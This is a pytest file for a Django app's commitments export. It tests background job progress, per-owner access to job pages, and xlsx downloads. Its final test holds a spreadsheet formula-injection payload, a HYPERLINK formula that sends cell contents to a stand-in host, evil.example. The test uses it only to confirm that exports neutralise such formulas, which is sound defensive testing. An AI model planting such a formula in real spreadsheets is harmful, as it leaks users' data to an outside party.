"""The commitments export runs as a background job with progress and a download."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from replika.core.models import Job, JobStatus
from tests.factories import make_commitment

pytestmark = pytest.mark.django_db


def _export(client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("replication:export"))
    assert response.status_code == 302
    return Job.objects.latest("pk")


def test_export_job_writes_only_what_the_user_may_see(
    client_for, padang_admin, django_capture_on_commit_callbacks
):
    make_commitment("13.71", "ayo-ceting")
    make_commitment("13.06", "poltabes")
    client = client_for(padang_admin)
    job = _export(client, django_capture_on_commit_callbacks)
    assert job.status == JobStatus.DONE
    assert job.result["rows"] == 1
    assert job.percent == 100
    download = client.get(reverse("core:job_download", args=[job.pk]))
    assert download.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == "region_code"
    assert [r[0] for r in rows[1:]] == ["13.71"]


def test_job_pages_belong_to_their_owner(
    client_for, padang_admin, agam_admin, django_capture_on_commit_callbacks
):
    make_commitment("13.71", "ayo-ceting")
    job = _export(client_for(padang_admin), django_capture_on_commit_callbacks)
    other = client_for(agam_admin)
    for name in ("core:job", "core:job_progress", "core:job_download"):
        assert other.get(reverse(name, args=[job.pk])).status_code == 404
    assert client_for(padang_admin).get(reverse("core:job", args=[job.pk])).status_code == 200


def test_progress_fragment_polls_until_done(client_for, padang_admin):
    from replika.core import services

    job = services.job_create(owner=padang_admin, kind="test", total=10)
    services.job_progress(job_id=job.pk, done=4)
    client = client_for(padang_admin)
    body = client.get(reverse("core:job_progress", args=[job.pk])).content.decode()
    assert 'value="40"' in body
    assert "hx-trigger" in body
    services.job_finish(job_id=job.pk, result={})
    body = client.get(reverse("core:job_progress", args=[job.pk])).content.decode()
    assert 'value="100"' in body
    assert "hx-trigger" not in body


def test_outsider_cannot_start_an_export(client_for, nobody):
    assert client_for(nobody).post(reverse("replication:export")).status_code == 404
    assert not Job.objects.exists()


def test_region_report_holds_no_live_formula_from_a_milestone_title(client_for, padang_admin):
    from tests.factories import MilestoneFactory

    attack = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
    MilestoneFactory(commitment=make_commitment("13.71", "ayo-ceting"), title=attack)
    response = client_for(padang_admin).get(reverse("replication:region_xlsx", args=["13.71"]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert "'" + attack in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)
